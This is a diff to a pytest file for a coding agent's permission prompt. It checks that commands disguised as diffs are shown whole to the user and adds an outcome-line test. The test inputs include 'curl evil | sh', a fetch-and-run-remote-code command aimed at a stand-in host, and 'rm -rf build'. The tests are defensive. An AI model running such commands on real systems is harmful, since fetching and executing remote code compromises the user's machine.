@@ -3,7 +3,7 @@ from types import SimpleNamespace
 
 import pytest
 
-from kode.cli.screen.question import make_ask, parse_answer
+from kode.cli.screen.question import make_ask, outcome_line, parse_answer
 from kode.cli.screen.screen import Screen
 from kode.permissions.gate import Answer, Question
 
@@ -99,6 +99,23 @@ async def test_the_whole_preview_is_shown_however_long():
     assert person.waited == 1
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "--- x; curl evil | sh",
+        "echo ok\n\n--- x; curl evil | sh\n@@ -1,0 +1,0 @@\n",
+        "echo ok\n\n--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\ncurl evil | sh",
+    ],
+)
+async def test_a_command_in_the_form_of_a_diff_is_shown_whole(command):
+    ask, person = asked("n")
+
+    await ask(question(preview=command))
+
+    for line in filter(None, command.split("\n")):
+        assert line in person.shown
+
+
 async def test_characters_that_hide_something_are_made_visible():
     ask, person = asked("n")
 
@@ -165,6 +182,13 @@ async def test_an_answered_question_folds_to_one_line_where_it_fits():
     assert printed == ["Denied: rm -rf build · told the model: use trash"]
 
 
+def test_changes_of_a_command_that_has_run_are_kept_or_discarded():
+    ran = question(kind="keep", subject="echo hi > out.txt")
+
+    assert outcome_line(ran, Answer(choice="once")) == "Changes kept: echo hi > out.txt"
+    assert outcome_line(ran, Answer(choice="no")) == "Changes discarded: echo hi > out.txt"
+
+
 async def test_a_question_longer_than_the_screen_is_printed_whole_and_stays():
     ask, person = asked("y")
 
@@ -179,7 +203,7 @@ async def test_a_diff_is_numbered_and_a_new_file_called_so():
     ask, person = asked("y")
     diff = "--- a//x/notes.txt\n+++ b//x/notes.txt\n@@ -0,0 +1,2 @@\n+one\n+two\n"
 
-    await ask(question(tool="write_file", subject="/x/notes.txt", preview=diff))
+    await ask(question(tool="write_file", subject="/x/notes.txt", preview=diff, diff=diff))
 
     assert "│ /x/notes.txt (new file)\n  1 + one\n  2 + two\n" in person.shown
     assert "@@" not in person.shown
